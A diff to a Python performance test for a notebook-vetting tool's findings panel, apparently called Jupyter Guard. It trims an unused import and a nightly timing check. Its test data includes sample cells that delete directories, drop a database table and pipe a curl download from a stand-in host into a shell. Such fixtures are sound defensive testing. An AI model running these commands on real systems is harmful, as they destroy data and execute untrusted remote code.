@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-import os
 from collections.abc import Iterator
 
 import pytest
@@ -16,7 +15,6 @@ SOURCES = (
     "import os, shutil\nshutil.rmtree('/srv/data/{0}')\nos.system('curl http://x.test/{0} | sh')",
     "import sqlite3\nsqlite3.connect('shop.db').execute('DROP TABLE sales_{0}')\nimport shutil\nshutil.rmtree('/srv/old/{0}')",
 )
-UPDATE_MS = 150
 VET_ALL_MS = 180_000
 
 # How long it takes from the message with a verdict until the panel has been drawn with it, and the longest that the
@@ -92,9 +90,6 @@ def test_two_thousand_cells_and_five_thousand_findings(server: Server, front: Fr
     assert count >= 5000
     # Long lists are drawn from their beginning on.
     assert nodes < 20_000
-    if os.environ.get("JUPYTER_GUARD_NIGHTLY"):
-        # A busy machine takes any time; on a quiet one most updates are as quick as docs/panel.md says.
-        assert updates[len(updates) // 2] < UPDATE_MS
     front.panel.get_by_role("searchbox").fill("sales_1999")
     front.page.wait_for_function("() => document.querySelectorAll('.jg-Group').length === 1")
     front.panel.locator(".jg-Group-head").click()
